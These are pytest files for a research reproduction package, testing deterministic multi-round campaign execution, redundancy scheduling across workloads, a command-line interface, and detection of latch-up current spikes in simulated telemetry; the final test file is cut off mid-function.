from hypothesis import given, settings
from hypothesis import strategies as st

from repro.campaign import (
    Campaign,
    GridSource,
    StreamHistory,
    Trial,
    TrialStore,
    canonical_json,
    execute,
    execute_stream,
    replay_round,
    round_seed,
    status,
    stream_status,
    trial_rng,
    values_digest,
)
from repro.errors import ConfigurationError
from repro.obs import MetricsRegistry


def _seeded_trial(item, rng, tracer=None):
    return {"draw": float(rng.random()), "scale": item}


def _grid(n=4, seed=7, name="stream-grid") -> Campaign:
    return Campaign(
        name=name,
        trial_fn=_seeded_trial,
        trials=[Trial(params={"i": i}, item=i) for i in range(n)],
        seed=seed,
        context={"flavour": "stream"},
    )


def _store_bytes(store: TrialStore) -> "dict[str, bytes]":
    root = store.root
    return {
        str(path.relative_to(root)): path.read_bytes()
        for path in sorted(root.glob("??/*.json"))
    }


class TestDigests:
    def test_values_digest_is_canonical(self):
        a = values_digest([{"x": 1, "y": 2}, None])
        b = values_digest([{"y": 2, "x": 1}, None])
        assert a == b
        assert a != values_digest([{"x": 1, "y": 3}, None])

    def test_round_seed_mixes_everything(self):
        base = round_seed(7, 0, "d0")
        assert round_seed(7, 0, "d0") == base
        assert round_seed(8, 0, "d0") != base
        assert round_seed(7, 1, "d0") != base
        assert round_seed(7, 0, "d1") != base
        assert 0 <= base < 1 << 64

    def test_empty_history_digest_is_uniform(self):
        assert StreamHistory().digest == values_digest([])


class TestGridEquivalence:
    @settings(max_examples=20, deadline=None)
    @given(n=st.integers(min_value=1, max_value=6),
           seed=st.integers(min_value=0, max_value=2**32 - 1))
    def test_stream_matches_one_shot_executor(self, n, seed, tmp_path_factory):
        camp = _grid(n=n, seed=seed)
        legacy = execute(_grid(n=n, seed=seed))
        stream = execute_stream(GridSource(camp))
        assert stream.exhausted and len(stream.rounds) == 1
        assert stream.values == legacy.values
        fps = [s.fingerprint for s in stream.specs]
        assert fps == [s.fingerprint for s in legacy.specs]

        # Same bytes on disk, file for file.
        tmp = tmp_path_factory.mktemp("grid-eq")
        legacy_store = TrialStore(tmp / "legacy")
        stream_store = TrialStore(tmp / "stream")
        execute(_grid(n=n, seed=seed), store=legacy_store)
        execute_stream(GridSource(_grid(n=n, seed=seed)), store=stream_store)
        assert _store_bytes(stream_store) == _store_bytes(legacy_store)

    def test_grid_source_emits_exactly_one_round(self):
        src = GridSource(_grid())
        first = src.next_round(StreamHistory())
        assert first is src.campaign
        history = StreamHistory()
        result = execute_stream(src)
        history.rounds.extend(result.rounds)
        assert src.next_round(history) is None

    def test_rounds_counter_increments(self):
        metrics = MetricsRegistry()
        execute_stream(GridSource(_grid()), metrics=metrics)
        counters = metrics.snapshot()["counters"]
        assert counters["campaign.rounds"] == 1


def _chained_trial(item, rng, tracer=None):
    """Payload depends on the trial's pinned rng and the item, which
    itself carries the previous round's digest — so any divergence
    anywhere in the stream cascades into every later value."""
    return {"draw": float(rng.random()), "parent": item}


def _traced_chain(item, rng, tracer=None):
    if tracer is not None:
        tracer.span("trial", t=0.0, dur=1.0, parent=item)
    return {"draw": float(rng.random()), "parent": item}


class ChainedSource:
    """A scripted multi-round source: round k's params embed round
    k-1's digest, the strictest possible dependence on history."""

    def __init__(self, rounds=3, width=4, seed=11, name="chained",
                 trial_fn=_chained_trial):
        self.rounds = rounds
        self.width = width
        self.seed = seed
        self.name = name
        self.trial_fn = trial_fn

    def next_round(self, history: StreamHistory) -> "Campaign | None":
        k = len(history.rounds)
        if k >= self.rounds:
            return None
        rseed = round_seed(self.seed, k, history.digest)
        parent = history.digest[:12]
        return Campaign(
            name=f"{self.name}/round{k:03d}",
            trial_fn=self.trial_fn,
            trials=[
                Trial(params={"round": k, "i": i, "parent": parent},
                      item=parent)
                for i in range(self.width)
            ],
            seed=rseed,
        )


class TestMultiRoundDeterminism:
    def test_round_seeds_descend_from_outcomes(self):
        result = execute_stream(ChainedSource())
        seeds = [r.result.specs[0].seed_root for r in result.rounds]
        assert len(set(seeds)) == len(seeds)
        # Re-derive each round's seed from the prefix digests.
        history = StreamHistory()
        for k, rnd in enumerate(result.rounds):
            assert seeds[k] == round_seed(11, k, history.digest)
            history.rounds.append(rnd)

    def test_serial_pooled_resumed_identical(self, tmp_path):
        serial = execute_stream(ChainedSource())
        pooled = execute_stream(ChainedSource(), workers=2, force_pool=True)
        assert pooled.digest == serial.digest
        assert pooled.values == serial.values

        store = TrialStore(tmp_path / "store")
        first = execute_stream(ChainedSource(), store=store)
        assert first.digest == serial.digest
        # Truncate mid-round: drop the last few entries so the resumed
        # run must finish a round someone else started.
        paths = sorted((tmp_path / "store").glob("??/*.json"))
        for path in paths[-3:]:
            path.unlink()
        resumed = execute_stream(ChainedSource(), store=store)
        assert resumed.digest == serial.digest
        assert resumed.values == serial.values
        assert resumed.executed == 3
        assert resumed.store_hits == serial.trials - 3

    def test_max_rounds_caps_the_drain(self):
        capped = execute_stream(ChainedSource(rounds=3), max_rounds=2)
        assert len(capped.rounds) == 2
        assert not capped.exhausted
        full = execute_stream(ChainedSource(rounds=3))
        assert [r.digest for r in full.rounds[:2]] == \
            [r.digest for r in capped.rounds]

    def test_bad_max_rounds_rejected(self):
        with pytest.raises(ConfigurationError, match="max_rounds"):
            execute_stream(ChainedSource(), max_rounds=0)

    def test_on_round_fires_in_order(self):
        seen = []
        execute_stream(ChainedSource(), on_round=lambda r: seen.append(r.index))
        assert seen == [0, 1, 2]


class TestStreamStatus:
    def test_cold_store(self, tmp_path):
        st_ = stream_status(ChainedSource(), TrialStore(tmp_path))
        assert st_.rounds_complete == 0
        assert st_.trials_stored == 0
        assert st_.current is not None and st_.current.completed == 0
        assert not st_.exhausted

    def test_partial_round_counted(self, tmp_path):
        store = TrialStore(tmp_path)
        result = execute_stream(ChainedSource(), store=store)
        # Drop two entries from the *last* round: the earlier rounds
        # still replay, the final one reports per-trial progress.
        for spec in result.rounds[-1].result.specs[-2:]:
            fp = spec.fingerprint
            (tmp_path / fp[:2] / f"{fp}.json").unlink()
        for fast in (False, True):
            st_ = stream_status(ChainedSource(), store, fast=fast)
            assert not st_.exhausted
            assert st_.rounds_complete == len(result.rounds) - 1
            assert st_.trials_stored == result.trials - 2
            assert st_.current is not None
            assert st_.current.completed == st_.current.total - 2
            assert st_.current.pending == 2

    def test_exhausted_stream(self, tmp_path):
        store = TrialStore(tmp_path)
        result = execute_stream(ChainedSource(), store=store)
        st_ = stream_status(ChainedSource(), store)
        assert st_.exhausted
        assert st_.rounds_complete == len(result.rounds)
        assert st_.trials_stored == result.trials
        assert st_.current is None

    def test_replay_round_requires_full_round(self, tmp_path):
        store = TrialStore(tmp_path)
        camp = _grid()
        assert replay_round(camp, store) is None
        assert replay_round(camp, None) is None
        executed = execute(_grid(), store=store)
        replayed = replay_round(camp, store)
        assert replayed is not None
        result, canonical = replayed
        assert result.values == executed.values
        assert result.executed == 0 and result.store_hits == len(canonical)

    def test_status_replay_matches_live_digests(self, tmp_path):
        store = TrialStore(tmp_path)
        live = execute_stream(ChainedSource(), store=store)
        # stream_status must walk the same round chain the live drain
        # did; a single divergent digest would derail it into a round
        # whose fingerprints the store has never seen.
        st_ = stream_status(ChainedSource(), store)
        assert st_.rounds_complete == len(live.rounds)
        assert st_.exhausted


def _poison_trial(item, rng, tracer=None):
    if item == "poison":
        raise ValueError("planted failure")
    return {"ok": item}


class PoisonSource:
    """Round 0 contains one poison trial; round 1's params embed the
    digest round 0 reached *with the quarantined slot as null*."""

    name = "poison-stream"

    def next_round(self, history: StreamHistory) -> "Campaign | None":
        k = len(history.rounds)
        if k >= 2:
            return None
        items = ["a", "poison", "b"] if k == 0 else ["c", "d"]
        return Campaign(
            name=f"{self.name}/round{k:03d}",
            trial_fn=_poison_trial,
            trials=[
                Trial(params={"round": k, "i": i, "parent": history.digest[:8]},
                      item=item)
                for i, item in enumerate(items)
            ],
            seed=round_seed(3, k, history.digest),
        )


class TestQuarantineInterplay:
    def test_quarantined_slot_digests_as_null(self):
        from repro.ground import GroundPolicy

        policy = GroundPolicy(max_attempts=1)
        result = execute_stream(PoisonSource(), supervision=policy)
        assert result.exhausted and len(result.rounds) == 2
        assert [q.index for q in result.quarantined] == [1]
        assert [q.round for q in result.quarantined] == [0]
        assert "planted failure" in result.quarantined[0].error
        values = result.values
        assert values[1] is None
        assert [v for v in values if v is not None] == [
            {"ok": "a"}, {"ok": "b"}, {"ok": "c"}, {"ok": "d"},
        ]
        # Same quarantine pattern => same digests, any worker count.
        pooled = execute_stream(
            PoisonSource(), supervision=policy, workers=2, force_pool=True
        )
        assert pooled.digest == result.digest

    def test_quarantine_round_stamp_survives_to_dict(self):
        from repro.ground import GroundPolicy

        result = execute_stream(
            PoisonSource(), supervision=GroundPolicy(max_attempts=1)
        )
        record = result.quarantined[0].to_dict()
        assert record["round"] == 0
        # Single-round campaign results keep the historical manifest
        # shape: no round key unless a stream stamped one.
        raw = result.rounds[0].result.quarantined[0].to_dict()
        assert "round" not in raw

    def test_batch_fn_excludes_supervision_and_trace(self, tmp_path):
        from repro.ground import GroundPolicy

        def batch_fn(items, rngs):
            return [{"ok": i} for i in items]

        with pytest.raises(ConfigurationError, match="batch_fn"):
            execute_stream(
                GridSource(_grid()), batch_fn=batch_fn,
                supervision=GroundPolicy(),
            )
        with pytest.raises(ConfigurationError, match="batch_fn"):
            execute_stream(
                GridSource(_grid()), batch_fn=batch_fn,
                trace_path=str(tmp_path / "t.jsonl"),
            )


class TestTraceThroughStream:
    def test_one_merged_trace_across_rounds(self, tmp_path):
        trace = tmp_path / "stream.jsonl"
        result = execute_stream(
            ChainedSource(trial_fn=_traced_chain), trace_path=str(trace)
        )
        from repro.obs import read_trace

        records = read_trace(str(trace))
        # One span per trial, merged across every round into one file.
        assert len(records) == result.trials

    def test_grid_trace_matches_one_shot(self, tmp_path):
        def traced(item, rng, tracer=None):
            if tracer is not None:
                tracer.span("trial", t=0.0, dur=1.0, item=item)
            return item

        camp_a = Campaign(
            name="traced", trial_fn=traced,
            trials=[Trial(params={"i": i}, item=i) for i in range(3)],
        )
        camp_b = Campaign(
            name="traced", trial_fn=traced,
            trials=[Trial(params={"i": i}, item=i) for i in range(3)],
        )
        a, b = tmp_path / "a.jsonl", tmp_path / "b.jsonl"
        execute(camp_a, trace_path=str(a))
        execute_stream(GridSource(camp_b), trace_path=str(b))
        assert a.read_bytes() == b.read_bytes()
