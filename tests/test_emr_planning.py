"""Tests for EMR's planning layers: replication, conflicts, scheduling."""

import numpy as np
import pytest

from repro.core.emr import (
    build_jobsets,
    detect_conflicts,
    order_jobs,
    plan_replication,
    schedule_summary,
    validate_jobsets,
)
from repro.errors import ConfigurationError
from repro.workloads import (
    AesWorkload,
    DeflateWorkload,
    DnnWorkload,
    ImageProcessingWorkload,
    IntrusionDetectionWorkload,
)
from repro.workloads.base import DatasetSpec, RegionRef


def _datasets(*region_lists):
    return [
        DatasetSpec(index=i, regions={f"r{j}": ref for j, ref in enumerate(refs)})
        for i, refs in enumerate(region_lists)
    ]


class TestReplicationPlan:
    def test_common_ref_detected(self):
        shared = RegionRef("key", 0, 32)
        datasets = _datasets(
            [RegionRef("d", 0, 64), shared],
            [RegionRef("d", 64, 64), shared],
            [RegionRef("d", 128, 64), shared],
        )
        plan = plan_replication(datasets, threshold=0.5)
        assert plan.replicated == frozenset({shared})
        assert plan.replicated_bytes == 32
        assert plan.extra_memory_bytes(3) == 96

    def test_threshold_is_strict(self):
        shared = RegionRef("key", 0, 32)
        datasets = _datasets(
            [RegionRef("d", 0, 64), shared],
            [RegionRef("d", 64, 64), shared],
        )
        # Frequency is exactly 1.0; threshold 1.0 excludes it.
        assert plan_replication(datasets, threshold=1.0).replicated == frozenset()
        assert plan_replication(datasets, threshold=0.99).replicated != frozenset()

    def test_above_one_disables(self):
        spec = AesWorkload(chunks=8).build(np.random.default_rng(0))
        plan = plan_replication(spec.datasets, threshold=1.5)
        assert not plan.replicated

    def test_zero_threshold_replicates_everything(self):
        spec = AesWorkload(chunks=8).build(np.random.default_rng(0))
        plan = plan_replication(spec.datasets, threshold=0.0)
        all_refs = {ref for ds in spec.datasets for ref in ds.regions.values()}
        assert plan.replicated == frozenset(all_refs)

    def test_paper_strategies_emerge_at_default_threshold(self):
        """Table 5: the optimal replication per workload falls out of
        the frequency rule — key, nothing, patterns, template, weights."""
        rng = np.random.default_rng(1)
        cases = [
            (AesWorkload(), {"key"}),
            (DeflateWorkload(), set()),
            (IntrusionDetectionWorkload(), {"patterns"}),
            (ImageProcessingWorkload(), {"template"}),
            (DnnWorkload(), {"weights"}),
        ]
        for workload, expected_blobs in cases:
            spec = workload.build(rng)
            plan = plan_replication(
                spec.datasets, workload.default_replication_threshold
            )
            blobs = {ref.blob for ref in plan.replicated}
            assert blobs == expected_blobs, workload.name


class TestConflictDetection:
    def test_byte_disjoint_same_line_conflicts(self):
        datasets = _datasets(
            [RegionRef("b", 0, 32)],
            [RegionRef("b", 32, 32)],  # same 64-byte line
            [RegionRef("b", 64, 32)],  # next line
        )
        graph = detect_conflicts(datasets, set(), line_size=64)
        assert graph.conflicts(0, 1)
        assert not graph.conflicts(0, 2)

    def test_replicated_refs_carry_no_edges(self):
        shared = RegionRef("key", 0, 32)
        datasets = _datasets(
            [RegionRef("d", 0, 64), shared],
            [RegionRef("d", 64, 64), shared],
        )
        with_shared = detect_conflicts(datasets, set(), line_size=64)
        assert with_shared.conflicts(0, 1)
        without = detect_conflicts(datasets, {shared}, line_size=64)
        assert not without.conflicts(0, 1)

    def test_deflate_chain_graph(self):
        spec = DeflateWorkload(block_bytes=256, blocks=6).build(np.random.default_rng(0))
        graph = detect_conflicts(spec.datasets, set(), line_size=64)
        for i in range(5):
            assert graph.conflicts(i, i + 1)
        assert not graph.conflicts(0, 2)
        assert graph.edge_count == 5

    def test_image_window_conflicts(self):
        workload = ImageProcessingWorkload(map_size=48, template_size=16, stride=8)
        spec = workload.build(np.random.default_rng(1))
        plan = plan_replication(spec.datasets, workload.default_replication_threshold)
        graph = detect_conflicts(spec.datasets, set(plan.replicated), line_size=64)
        # Overlapping windows (stride < template) must conflict.
        assert graph.conflicts(0, 1)
        assert graph.edge_count > 0

    def test_extra_conflicts_hook(self):
        datasets = _datasets(
            [RegionRef("a", 0, 64)],
            [RegionRef("b", 0, 64)],
        )
        plain = detect_conflicts(datasets, set(), line_size=64)
        assert plain.edge_count == 0
        hooked = detect_conflicts(
            datasets, set(), line_size=64, extra_conflicts=lambda a, b: True
        )
        assert hooked.conflicts(0, 1)

    def test_density(self):
        datasets = _datasets(
            [RegionRef("b", 0, 64)],
            [RegionRef("b", 0, 64)],
            [RegionRef("b", 128, 64)],
        )
        graph = detect_conflicts(datasets, set(), line_size=64)
        assert graph.density(3) == pytest.approx(1 / 3)


class TestScheduler:
    def _schedule(self, workload, threshold, strategy="rotated"):
        spec = workload.build(np.random.default_rng(2))
        plan = plan_replication(spec.datasets, threshold)
        graph = detect_conflicts(spec.datasets, set(plan.replicated), line_size=64)
        jobs = order_jobs(spec.datasets, 3, strategy)
        jobsets = build_jobsets(jobs, graph)
        validate_jobsets(jobsets, graph)
        return spec, graph, jobsets

    def test_every_job_scheduled_exactly_once(self):
        spec, _, jobsets = self._schedule(AesWorkload(chunks=10), 0.5)
        seen = [(j.dataset_index, j.executor_id) for js in jobsets for j in js.jobs]
        assert len(seen) == len(set(seen)) == 30

    def test_replicas_in_distinct_jobsets(self):
        spec, _, jobsets = self._schedule(AesWorkload(chunks=10), 0.5)
        for ds in spec.datasets:
            js_ids = {
                js.jobset_id
                for js in jobsets
                for j in js.jobs
                if j.dataset_index == ds.index
            }
            assert len(js_ids) == 3

    def test_disjoint_datasets_give_three_jobsets(self):
        _, _, jobsets = self._schedule(AesWorkload(chunks=12), 0.5)
        assert len(jobsets) == 3

    def test_full_conflicts_serialize(self):
        # Threshold > 1: the shared key is not replicated, every dataset
        # conflicts with every other -> one dataset per jobset (the
        # Fig 13 "0% replication = serial 3-MR" endpoint).
        spec, graph, jobsets = self._schedule(AesWorkload(chunks=6), 1.5)
        assert graph.density(len(spec.datasets)) == 1.0
        assert len(jobsets) == 18
        assert all(len(js) == 1 for js in jobsets)

    def test_rotated_beats_naive_balance(self):
        _, _, rotated = self._schedule(AesWorkload(chunks=12), 0.5, "rotated")
        _, _, naive = self._schedule(AesWorkload(chunks=12), 0.5, "naive")
        rotated_summary = schedule_summary(rotated, 3)
        naive_summary = schedule_summary(naive, 3)
        assert rotated_summary["balance"] > naive_summary["balance"]

    def test_unknown_strategy(self):
        spec = AesWorkload(chunks=2).build(np.random.default_rng(3))
        with pytest.raises(ConfigurationError):
            order_jobs(spec.datasets, 3, "zigzag")

    def test_validate_catches_duplicates(self):
        from repro.core.emr import ConflictGraph, JobSet, Job

        spec = AesWorkload(chunks=2).build(np.random.default_rng(4))
        jobset = JobSet(jobset_id=0)
        jobset.add(Job(dataset=spec.datasets[0], executor_id=0))
        jobset.add(Job(dataset=spec.datasets[0], executor_id=1))
        with pytest.raises(ConfigurationError):
            validate_jobsets([jobset], ConflictGraph(neighbours={}))
