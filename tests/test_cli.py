"""Tests for the ``python -m repro`` command-line interface."""

import pytest

from repro.__main__ import build_parser, main


class TestParser:
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_list(self, capsys):
        assert main(["list"]) == 0
        out = capsys.readouterr().out
        assert "table2" in out and "fig11" in out and "ablation:" in out

    def test_run_cheap_experiment(self, capsys):
        assert main(["run", "table4"]) == 0
        out = capsys.readouterr().out
        assert "75%" in out

    def test_run_to_file(self, tmp_path):
        target = tmp_path / "out.txt"
        assert main(["run", "table5", "--out", str(target)]) == 0
        assert "Replicate key" in target.read_text()

    def test_unknown_experiment(self):
        with pytest.raises(SystemExit):
            main(["run", "fig99"])

    def test_unknown_environment(self):
        with pytest.raises(SystemExit):
            main(["mission", "--environment", "venus"])

    def test_mission_smoke(self, capsys, tmp_path):
        csv_path = tmp_path / "log.csv"
        code = main([
            "mission", "--days", "0.05", "--environment", "sea-level",
            "--csv", str(csv_path),
        ])
        assert code == 0
        assert "survived: True" in capsys.readouterr().out
        assert csv_path.read_text().startswith("mission_time_s")
