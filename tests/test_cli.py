"""Tests for the ``python -m repro`` command-line interface."""

import pytest

from repro.__main__ import build_parser, main


class TestParser:
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_list(self, capsys):
        assert main(["list"]) == 0
        out = capsys.readouterr().out
        assert "table2" in out and "fig11" in out and "ablation:" in out

    def test_run_cheap_experiment(self, capsys):
        assert main(["run", "table4"]) == 0
        out = capsys.readouterr().out
        assert "75%" in out

    def test_run_to_file(self, tmp_path):
        target = tmp_path / "out.txt"
        assert main(["run", "table5", "--out", str(target)]) == 0
        assert "Replicate key" in target.read_text()

    def test_unknown_experiment(self):
        with pytest.raises(SystemExit):
            main(["run", "fig99"])

    def test_unknown_environment(self):
        with pytest.raises(SystemExit):
            main(["mission", "--environment", "venus"])

    def test_trace_rejected_for_untraced_experiment(self, tmp_path):
        with pytest.raises(SystemExit, match="does not support --trace"):
            main(["run", "table4", "--trace", str(tmp_path / "t.jsonl")])

    def test_module_name_alias_resolves(self, capsys):
        assert main(["run", "table4_protected_area"]) == 0
        assert "75%" in capsys.readouterr().out

    def test_trace_summarize(self, capsys, tmp_path):
        from repro.obs import TraceRecord, write_records

        path = tmp_path / "t.jsonl"
        write_records(
            [
                TraceRecord(t=0.01, kind="event", name="inject.seu",
                            attrs={"target": "dram", "bits": 1}, task=0),
                TraceRecord(t=0.02, kind="event", name="emr.fault",
                            attrs={"ds": 1, "scheme": "emr"}, task=0),
                TraceRecord(t=0.05, kind="event", name="toy.noise", task=1),
            ],
            path,
        )
        assert main(["trace", "summarize", str(path)]) == 0
        out = capsys.readouterr().out
        assert "incident chains (injection → detection): 1 of 2" in out
        assert "inject.seu" in out

        assert main(["trace", "summarize", str(path), "--task", "1"]) == 0
        out = capsys.readouterr().out
        assert "1 task(s)" in out

        with pytest.raises(SystemExit, match="no records for task"):
            main(["trace", "summarize", str(path), "--task", "7"])

    def test_mission_smoke(self, capsys, tmp_path):
        csv_path = tmp_path / "log.csv"
        code = main([
            "mission", "--days", "0.05", "--environment", "sea-level",
            "--csv", str(csv_path),
        ])
        assert code == 0
        assert "survived: True" in capsys.readouterr().out
        assert csv_path.read_text().startswith("mission_time_s")
