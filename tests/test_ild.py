"""Tests for ILD: filter, model, quiescence, detector, calibration."""

import numpy as np
import pytest

from repro.core.ild import (
    BubblePolicy,
    CurrentModel,
    IldConfig,
    IldDetector,
    LabelledTrace,
    QuiescenceDetector,
    RollingMinimumFilter,
    bubble_overhead,
    inject_bubbles,
    select_features,
    sweep_thresholds,
    train_ild,
)
from repro.errors import ConfigurationError
from repro.sim import (
    ActivitySegment,
    CurrentStep,
    TelemetryConfig,
    TraceGenerator,
    quiescent_segment,
)
from repro.workloads import navigation_schedule


@pytest.fixture(scope="module")
def generator():
    return TraceGenerator(TelemetryConfig())


@pytest.fixture(scope="module")
def trained_detector(generator):
    rng = np.random.default_rng(0)
    train_trace = generator.generate(navigation_schedule(600, rng=rng), rng=rng)
    return train_ild(train_trace, max_instruction_rate=generator.max_instruction_rate)


class TestRollingMinimum:
    def test_kills_positive_spikes(self):
        rng = np.random.default_rng(0)
        base = np.full(4000, 1.8)
        spikes = rng.random(4000) < 0.05
        samples = base + spikes * rng.uniform(0.2, 1.0, 4000)
        filt = RollingMinimumFilter(halfwidth_samples=4)
        raw_sigma, filtered_sigma = filt.noise_reduction(samples)
        assert filtered_sigma < raw_sigma / 4

    def test_passes_persistent_steps(self):
        samples = np.concatenate([np.full(100, 1.8), np.full(100, 1.87)])
        filt = RollingMinimumFilter(halfwidth_samples=4)
        out = filt.apply(samples)
        assert out[:90].mean() == pytest.approx(1.8)
        assert out[120:].mean() == pytest.approx(1.87)

    def test_paper_sigma_reduction_on_sensor_noise(self, generator):
        """Raw quiescent σ ≈ 0.14 A must fall to ≈ 0.02 A (§3.1)."""
        rng = np.random.default_rng(1)
        trace = generator.generate(
            [quiescent_segment(60.0)], rng=rng, housekeeping=None
        )
        filt = RollingMinimumFilter(4)
        raw_sigma, filtered_sigma = filt.noise_reduction(trace.fine_samples)
        assert 0.07 < raw_sigma < 0.25
        assert filtered_sigma < 0.035

    def test_delay(self):
        filt = RollingMinimumFilter(4)
        assert filt.delay_seconds(250e-6) == pytest.approx(1e-3)

    def test_per_tick_length(self):
        filt = RollingMinimumFilter(2)
        out = filt.per_tick(np.arange(40, dtype=float), samples_per_tick=4)
        assert len(out) == 10

    def test_per_tick_partial_final_tick(self):
        # 10 samples at 4/tick: tick centers fall at indices 2 and 6;
        # the trailing partial tick (samples 8, 9) has no center and
        # must not produce a value.
        filt = RollingMinimumFilter(2)
        samples = np.arange(10, dtype=float)
        out = filt.per_tick(samples, samples_per_tick=4)
        assert len(out) == 2
        assert np.array_equal(out, filt.apply(samples)[2::4])
        # One more sample brings index 10 (the third center) into range.
        longer = np.arange(11, dtype=float)
        assert len(filt.per_tick(longer, samples_per_tick=4)) == 3

    def test_per_tick_invalid_rate(self):
        with pytest.raises(ConfigurationError):
            RollingMinimumFilter(2).per_tick(np.arange(8.0), samples_per_tick=0)

    def test_zero_halfwidth_identity(self):
        samples = np.array([3.0, 1.0, 2.0])
        assert np.array_equal(RollingMinimumFilter(0).apply(samples), samples)


class TestCurrentModel:
    def test_high_r2_on_mixed_activity(self, generator):
        rng = np.random.default_rng(2)
        segments = [
            ActivitySegment(duration=1.0, core_util=(u,) * 4, dram_gbs=0.2 * u)
            for u in np.linspace(0.0, 0.9, 10)
        ]
        trace = generator.generate(segments, rng=rng, housekeeping=None)
        filt = RollingMinimumFilter(4)
        filtered = filt.per_tick(trace.fine_samples, 4)[: trace.n_ticks]
        model = CurrentModel().fit(trace.counters, filtered)
        assert model.score(trace.counters, filtered) > 0.97

    def test_residuals_near_zero_without_sel(self, generator, trained_detector):
        rng = np.random.default_rng(3)
        trace = generator.generate([quiescent_segment(30.0)], rng=rng)
        residuals = trained_detector.residuals(trace)
        assert abs(residuals.mean()) < 0.02

    def test_residual_shifts_by_sel_current(self, generator, trained_detector):
        rng = np.random.default_rng(4)
        step = CurrentStep(start=0.0, delta_amps=0.07)
        trace = generator.generate(
            [quiescent_segment(30.0)], rng=rng, current_steps=[step]
        )
        residuals = trained_detector.residuals(trace)
        assert residuals.mean() == pytest.approx(0.07, abs=0.025)

    def test_feature_selection_finds_instruction_rate(self, generator):
        rng = np.random.default_rng(5)
        segments = [
            ActivitySegment(duration=0.6, core_util=(u,) * 4, dram_gbs=0.3 * u)
            for u in np.linspace(0.0, 0.9, 8)
        ]
        trace = generator.generate(segments, rng=rng, housekeeping=None)
        selection = select_features(trace.counters, trace.true_current, n_top=6)
        top = " ".join(selection.top_names())
        assert "instruction_rate" in top or "bus_cycle_rate" in top or "cpu_freq" in top


class TestQuiescence:
    def test_mask_separates_idle_from_busy(self, generator):
        rng = np.random.default_rng(6)
        busy = ActivitySegment(duration=2.0, core_util=(0.9,) * 4)
        trace = generator.generate(
            [quiescent_segment(2.0), busy], rng=rng, housekeeping=None
        )
        detector = QuiescenceDetector(generator.max_instruction_rate)
        mask = detector.mask(trace.counters)
        assert mask[:2000].mean() > 0.99
        assert mask[2000:].mean() < 0.01

    def test_housekeeping_stays_quiescent(self, generator):
        """OS chores must not break quiescence — the model explains them."""
        rng = np.random.default_rng(7)
        trace = generator.generate([quiescent_segment(120.0)], rng=rng)
        detector = QuiescenceDetector(generator.max_instruction_rate)
        assert detector.mask(trace.counters).mean() > 0.95

    def test_invalid_threshold(self):
        with pytest.raises(ConfigurationError):
            QuiescenceDetector(1e9, utilization_threshold=1.5)


class TestBubbles:
    def test_policy_overhead(self):
        policy = BubblePolicy()
        # The paper rounds 3/180 up to "2%"; exactly it is 1.67 %.
        assert policy.worst_case_overhead == pytest.approx(3.0 / 180.0)
        assert policy.overhead_seconds_per_hour() == pytest.approx(60.0)

    def test_injection_splits_long_segments(self):
        busy = ActivitySegment(duration=600.0, core_util=(0.9,) * 4)
        segments = inject_bubbles([busy])
        bubbles = [seg for seg in segments if seg.label == "bubble"]
        assert len(bubbles) == 3  # at 180, 360, 540 seconds
        assert all(seg.quiescent for seg in bubbles)
        total = sum(seg.duration for seg in segments)
        assert total == pytest.approx(609.0)
        assert bubble_overhead(segments) == pytest.approx(9.0 / 609.0)

    def test_short_segments_untouched(self):
        busy = ActivitySegment(duration=100.0, core_util=(0.9,) * 4)
        segments = inject_bubbles([quiescent_segment(10.0), busy])
        assert len(segments) == 2

    def test_natural_quiescence_resets_timer(self):
        busy = ActivitySegment(duration=170.0, core_util=(0.9,) * 4)
        segments = inject_bubbles([busy, quiescent_segment(5.0), busy])
        assert not any(seg.label == "bubble" for seg in segments)

    def test_invalid_policy(self):
        with pytest.raises(ConfigurationError):
            BubblePolicy(bubble_seconds=200.0, pause_seconds=100.0)


class TestDetector:
    def test_no_false_alarm_on_clean_mission(self, generator, trained_detector):
        trained_detector.reset()
        rng = np.random.default_rng(8)
        trace = generator.generate(
            navigation_schedule(600, rng=np.random.default_rng(80)), rng=rng
        )
        assert trained_detector.process(trace) == []

    def test_detects_sel_during_quiescence(self, generator, trained_detector):
        trained_detector.reset()
        rng = np.random.default_rng(9)
        trace = generator.generate(
            [quiescent_segment(120.0)], rng=rng,
            current_steps=[CurrentStep(start=30.0, delta_amps=0.07)],
        )
        detections = trained_detector.process(trace)
        assert detections
        latency = detections[0].time - 30.0
        assert 0 < latency < 15.0

    def test_detection_respects_persistence(self, generator, trained_detector):
        """A 1-second step (a transient, not an SEL) must not alarm."""
        trained_detector.reset()
        rng = np.random.default_rng(10)
        trace = generator.generate(
            [quiescent_segment(60.0)], rng=rng,
            current_steps=[CurrentStep(start=20.0, delta_amps=0.07, end=21.0)],
        )
        assert trained_detector.process(trace) == []

    def test_streaming_across_chunks(self, generator, trained_detector):
        """An SEL near a chunk boundary is still caught: the residual
        window carries across process() calls."""
        trained_detector.reset()
        rng = np.random.default_rng(11)
        step = CurrentStep(start=28.5, delta_amps=0.08)
        chunk1 = generator.generate(
            [quiescent_segment(30.0)], rng=rng, current_steps=[step]
        )
        chunk2 = generator.generate(
            [quiescent_segment(30.0)], rng=rng,
            current_steps=[CurrentStep(start=0.0, delta_amps=0.08)],
            start_time=30.0,
        )
        detections = trained_detector.process(chunk1)
        detections += trained_detector.process(chunk2)
        assert detections
        assert detections[0].time < 35.0

    def test_small_sel_below_threshold_missed(self, generator, trained_detector):
        """ΔI ≪ threshold is invisible — Fig 10's left edge."""
        trained_detector.reset()
        rng = np.random.default_rng(12)
        trace = generator.generate(
            [quiescent_segment(60.0)], rng=rng,
            current_steps=[CurrentStep(start=10.0, delta_amps=0.01)],
        )
        assert trained_detector.process(trace) == []

    def test_sel_during_load_caught_at_next_quiescence(
        self, generator, trained_detector
    ):
        trained_detector.reset()
        rng = np.random.default_rng(13)
        busy = ActivitySegment(duration=60.0, core_util=(0.9,) * 4, dram_gbs=0.5)
        trace = generator.generate(
            [quiescent_segment(20.0), busy, quiescent_segment(30.0)],
            rng=rng,
            current_steps=[CurrentStep(start=40.0, delta_amps=0.07)],
        )
        detections = trained_detector.process(trace)
        assert detections
        assert detections[0].time > 80.0  # after the burst ends


class TestCalibration:
    def test_sweep_prefers_zero_fn(self, generator, trained_detector):
        rng = np.random.default_rng(14)
        labelled = []
        for i in range(4):
            onset = 20.0 + 5 * i
            trace = generator.generate(
                [quiescent_segment(90.0)], rng=rng,
                current_steps=[CurrentStep(start=onset, delta_amps=0.07)],
            )
            labelled.append(LabelledTrace(trace=trace, sel_onset=onset))
        for i in range(3):
            trace = generator.generate([quiescent_segment(90.0)], rng=rng)
